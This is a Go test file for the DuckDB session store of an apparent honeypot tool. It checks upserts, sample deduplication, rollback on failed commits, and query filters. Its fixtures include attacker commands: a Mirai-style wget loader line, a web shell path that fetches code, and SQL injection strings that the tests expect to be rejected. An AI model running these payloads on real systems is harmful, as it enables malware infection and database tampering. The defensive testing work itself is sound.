package duckstore

import (
	"context"
	"errors"
	"net/netip"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/storetest"
)

var (
	srcA = netip.MustParseAddr("198.51.100.7")
	srcB = netip.MustParseAddr("2001:db8::9")
	t0   = time.Date(2026, 5, 1, 14, 30, 0, 0, time.UTC) // 23:30 in Tokyo: still 2026-05-01
)

func openSessions(t *testing.T) *Store {
	t.Helper()
	st, err := Open(context.Background(), filepath.Join(t.TempDir(), "s.duckdb"), Options{TimeZone: "Asia/Tokyo"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// stored is s as the store gives it back: times in UTC, file contents
// left out, empty lists nil.
func stored(s session.Session) session.Session {
	s.Start, s.End = s.Start.UTC(), s.End.UTC()
	var files []session.File
	for _, f := range s.Files {
		f.Content = nil
		files = append(files, f)
	}
	s.Files = files
	return s
}

func count(t *testing.T, st *Store, q string) int {
	t.Helper()
	var n int
	if err := st.DB().QueryRow(q).Scan(&n); err != nil {
		t.Fatalf("%s: %v", q, err)
	}
	return n
}

func intrusions(t *testing.T, st *Store) uint64 {
	t.Helper()
	rows, err := st.Stats(context.Background(), store.StatsQuery{By: []string{"class"}, Classes: []string{"intrusion"}})
	if err != nil {
		t.Fatal(err)
	}
	var n uint64
	for _, r := range rows {
		n += r.Packets
	}
	return n
}

func TestCommitSessionsUpsert(t *testing.T) {
	ctx := context.Background()
	st := openSessions(t)
	elf := storetest.ELF("one")
	open := storetest.Telnet("a1", "hp1", srcA, t0, nil, "enable")
	open.End, open.EndReason = time.Time{}, ""
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: []session.Session{open}}); err != nil {
		t.Fatal(err)
	}
	done := storetest.Telnet("a1", "hp1", srcA, t0, elf, "enable", "system", "wget http://198.51.100.9/bins/x.arm7 -O /tmp/x")
	done.Commands[2].Patterns = []string{"wget-loader", "mirai-bins"}
	web := storetest.HTTP("h1", "hp1", srcB, t0.Add(time.Hour), "/shell?cd+/tmp;wget+http://x")
	web.FirstBytes = []byte("GET /shell\x00\xff")
	batch := []session.Session{done, web}
	hits := storetest.IntrusionHits("b2", "hp1", batch, st.Location())
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b2", Sessions: batch, Hits: hits}); err != nil {
		t.Fatal(err)
	}
	got, err := st.Sessions(ctx, store.SessionQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 {
		t.Fatalf("%d sessions, want 2 (one upserted twice)", len(got))
	}
	// Newest first.
	for i, want := range []session.Session{stored(web), stored(done)} {
		if !reflect.DeepEqual(got[i], want) {
			t.Errorf("session %d:\n got %+v\nwant %+v", i, got[i], want)
		}
	}
	if n := count(t, st, `SELECT count(*) FROM hp_commands WHERE session_id = 'a1'`); n != 3 {
		t.Errorf("%d command rows of a1, want 3 (the first snapshot's replaced)", n)
	}
	if n := intrusions(t, st); n != 1 {
		t.Errorf("%d intrusions, want 1", n)
	}

	// A retry of b2, even with other contents, changes nothing.
	again := done
	again.Commands = nil
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b2", Sessions: []session.Session{again}, Hits: hits}); err != nil {
		t.Fatal(err)
	}
	got2, err := st.Sessions(ctx, store.SessionQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got2, got) {
		t.Errorf("retry of b2 changed the sessions")
	}
	if n := intrusions(t, st); n != 1 {
		t.Errorf("after a retry: %d intrusions, want 1", n)
	}
	if n := count(t, st, `SELECT count(*) FROM ingests`); n != 1 {
		t.Errorf("after a retry: %d ingests, want 1", n)
	}
	// One session as one batch with two of its snapshots: the last wins.
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b3", Sessions: []session.Session{done, open}}); err != nil {
		t.Fatal(err)
	}
	one, err := st.Sessions(ctx, store.SessionQuery{ID: "a1"})
	if err != nil || len(one) != 1 || len(one[0].Commands) != 1 || !one[0].End.IsZero() {
		t.Errorf("a1 after b3: %+v (%v), want the open snapshot", one, err)
	}
}

func TestSampleCounts(t *testing.T) {
	ctx := context.Background()
	st := openSessions(t)
	elf := storetest.ELF("shared")
	sha := storetest.SHA256(elf)
	a := storetest.Telnet("a1", "hp1", srcA, t0, elf, "sh")
	// a wrote it twice: still one session.
	a.Files = append(a.Files, storetest.File(t0.Add(25*time.Second), "/tmp/y", "cp", elf))
	b := storetest.Telnet("b1", "hp2", srcB, t0.Add(48*time.Hour), elf, "sh")
	// Not a sample: plain data.
	b.Files = append(b.Files, storetest.File(t0.Add(48*time.Hour), "/tmp/note", "echo", []byte("hello")))
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: []session.Session{b}}); err != nil {
		t.Fatal(err)
	}
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b2", Sessions: []session.Session{a}}); err != nil {
		t.Fatal(err)
	}
	got, err := st.Samples(ctx, store.SampleQuery{})
	if err != nil {
		t.Fatal(err)
	}
	want := session.Sample{SHA256: sha, Size: int64(len(elf)), Type: "elf32-arm-le", First: a.Files[0].Time.UTC(),
		Last: b.Files[0].Time.UTC(), Count: 2, Via: "download", SessionID: "a1", Src: srcA, Sensor: "hp1"}
	if len(got) != 1 || !reflect.DeepEqual(got[0], want) {
		t.Fatalf("samples %+v, want [%+v]", got, want)
	}
	// Filters.
	for _, c := range []struct {
		q    store.SampleQuery
		want int
	}{
		{store.SampleQuery{SHA256: sha[:8]}, 1},
		{store.SampleQuery{SHA256: "00000000"}, 0},
		{store.SampleQuery{Src: srcB}, 1},
		{store.SampleQuery{Src: netip.MustParseAddr("192.0.2.99")}, 0},
		{store.SampleQuery{From: "2026-05-03", To: "2026-05-03"}, 1}, // last seen 2026-05-03 14:30 UTC
		{store.SampleQuery{To: "2026-05-02"}, 0},
	} {
		got, err := st.Samples(ctx, c.q)
		if err != nil || len(got) != c.want {
			t.Errorf("%+v: %d samples (%v), want %d", c.q, len(got), err, c.want)
		}
	}
	if _, err := st.Samples(ctx, store.SampleQuery{SHA256: "abc"}); err == nil {
		t.Error("a 3-digit prefix was accepted")
	}
	if _, err := st.Samples(ctx, store.SampleQuery{SHA256: "'; DROP TABLE samples; --"}); err == nil {
		t.Error("a prefix that is not hex was accepted")
	}
	// a drops the file: the sample is b's alone.
	a.Files = nil
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b3", Sessions: []session.Session{a}}); err != nil {
		t.Fatal(err)
	}
	got, err = st.Samples(ctx, store.SampleQuery{})
	if err != nil || len(got) != 1 || got[0].Count != 1 || got[0].SessionID != "b1" || got[0].Sensor != "hp2" || !got[0].First.Equal(b.Files[0].Time) {
		t.Fatalf("after a lost its file: %+v (%v)", got, err)
	}
	b.Files = nil
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b4", Sessions: []session.Session{b}}); err != nil {
		t.Fatal(err)
	}
	if got, err := st.Samples(ctx, store.SampleQuery{}); err != nil || len(got) != 0 {
		t.Errorf("after both lost it: %+v (%v), want none", got, err)
	}
}

func TestCommitSessionsAbort(t *testing.T) {
	ctx := context.Background()
	st := openSessions(t)
	elf := storetest.ELF("x")
	ss := []session.Session{storetest.Telnet("a1", "hp1", srcA, t0, elf, "sh")}
	tables := []string{"hp_sessions", "hp_logins", "hp_commands", "hp_urls", "hp_files", "samples", "hp_batches", "ingests", "hit_counts", "sources", "rollup_day"}
	empty := func(what string) {
		t.Helper()
		for _, tb := range tables {
			if n := count(t, st, `SELECT count(*) FROM `+tb); n != 0 {
				t.Errorf("%s: %d rows in %s", what, n, tb)
			}
		}
	}
	// A failure after the rows are written (a crash before COMMIT).
	boom := errors.New("boom")
	sessionsHook = func() error { return boom }
	err := st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: ss, Hits: storetest.IntrusionHits("b1", "hp1", ss, st.Location())})
	sessionsHook = nil
	if !errors.Is(err, boom) {
		t.Fatalf("commit with a failure: %v", err)
	}
	empty("after a failed commit")
	// The hits' content was ingested already: the whole batch is refused.
	hits := storetest.IntrusionHits("b0", "hp1", ss, st.Location())
	if _, err := st.Commit(ctx, hits); err != nil {
		t.Fatal(err)
	}
	err = st.CommitSessions(ctx, store.SessionBatch{ID: "b2", Sessions: ss, Hits: hits})
	if !errors.Is(err, store.ErrDuplicate) {
		t.Fatalf("duplicate hits: %v, want ErrDuplicate", err)
	}
	if n := count(t, st, `SELECT count(*) FROM hp_sessions`) + count(t, st, `SELECT count(*) FROM hp_batches`) + count(t, st, `SELECT count(*) FROM samples`); n != 0 {
		t.Errorf("a refused batch left %d rows", n)
	}
	// The retry after the failure writes it once.
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: ss}); err != nil {
		t.Fatal(err)
	}
	if n := count(t, st, `SELECT count(*) FROM hp_sessions`); n != 1 {
		t.Errorf("%d sessions after the retry, want 1", n)
	}
	if err := st.CommitSessions(ctx, store.SessionBatch{Sessions: ss}); err == nil {
		t.Error("a batch without an id was accepted")
	}
	bad := ss[0]
	bad.ID = ""
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b9", Sessions: []session.Session{bad}}); err == nil {
		t.Error("a session without an id was accepted")
	}
}

func TestSessionsQuery(t *testing.T) {
	ctx := context.Background()
	st := openSessions(t)
	elf := storetest.ELF("q")
	ss := []session.Session{
		storetest.Telnet("s1", "hp1", srcA, t0, elf, "sh"),                                  // 2026-05-01 Tokyo
		storetest.Telnet("s2", "hp2", srcB, t0.Add(30*time.Minute), nil),                    // 2026-05-02 00:00 Tokyo, no command
		storetest.HTTP("s3", "hp1", srcB, t0.Add(2*time.Hour), "/"),                         // 2026-05-02
		storetest.Telnet("s4", "hp1", srcA, t0.Add(72*time.Hour), nil, "cat /proc/cpuinfo"), // 2026-05-04
	}
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "q", Sessions: ss}); err != nil {
		t.Fatal(err)
	}
	ids := func(q store.SessionQuery) []string {
		t.Helper()
		got, err := st.Sessions(ctx, q)
		if err != nil {
			t.Fatalf("%+v: %v", q, err)
		}
		var out []string
		for _, s := range got {
			out = append(out, s.ID)
		}
		return out
	}
	for _, c := range []struct {
		q    store.SessionQuery
		want []string
	}{
		{store.SessionQuery{}, []string{"s4", "s3", "s2", "s1"}},
		{store.SessionQuery{From: "2026-05-02", To: "2026-05-02"}, []string{"s3", "s2"}},
		{store.SessionQuery{To: "2026-05-01"}, []string{"s1"}},
		{store.SessionQuery{Src: srcA}, []string{"s4", "s1"}},
		{store.SessionQuery{Sensors: []string{"hp2"}}, []string{"s2"}},
		{store.SessionQuery{Services: []string{session.HTTP}}, []string{"s3"}},
		{store.SessionQuery{ID: "s3"}, []string{"s3"}},
		{store.SessionQuery{LoggedIn: true}, []string{"s4", "s2", "s1"}},
		{store.SessionQuery{Intrusions: true}, []string{"s4", "s1"}},
		{store.SessionQuery{SHA256: storetest.SHA256(elf)}, []string{"s1"}},
		{store.SessionQuery{Limit: 2}, []string{"s4", "s3"}},
		{store.SessionQuery{Limit: 2, Offset: 3}, []string{"s1"}},
		{store.SessionQuery{ID: "x' OR '1'='1"}, nil},
		{store.SessionQuery{Username: "admin"}, []string{"s4", "s2", "s1"}},
		{store.SessionQuery{Username: "admin", Src: srcB}, []string{"s2"}},
		{store.SessionQuery{Username: "adm"}, nil},
		{store.SessionQuery{Contains: "cpuinfo"}, []string{"s4"}},
		{store.SessionQuery{Contains: "bins/x.arm"}, []string{"s1"}},
		{store.SessionQuery{Contains: "/"}, []string{"s4", "s3", "s1"}},
		{store.SessionQuery{Contains: "' OR '1'='1"}, nil},
	} {
		if got := ids(c.q); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%+v: %v, want %v", c.q, got, c.want)
		}
	}
	for _, q := range []store.SessionQuery{{Limit: -1}, {Offset: -1}, {From: "May 1"}, {SHA256: "xyz"}} {
		if _, err := st.Sessions(ctx, q); err == nil {
			t.Errorf("%+v accepted", q)
		}
	}
	// A read-only open reads them too.
	path := st.Path()
	st.Close()
	ro, err := Open(ctx, path, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer ro.Close()
	got, err := ro.Sessions(ctx, store.SessionQuery{ID: "s1"})
	if err != nil || len(got) != 1 || !reflect.DeepEqual(got[0], stored(ss[0])) {
		t.Errorf("read-only: %+v (%v)", got, err)
	}
}
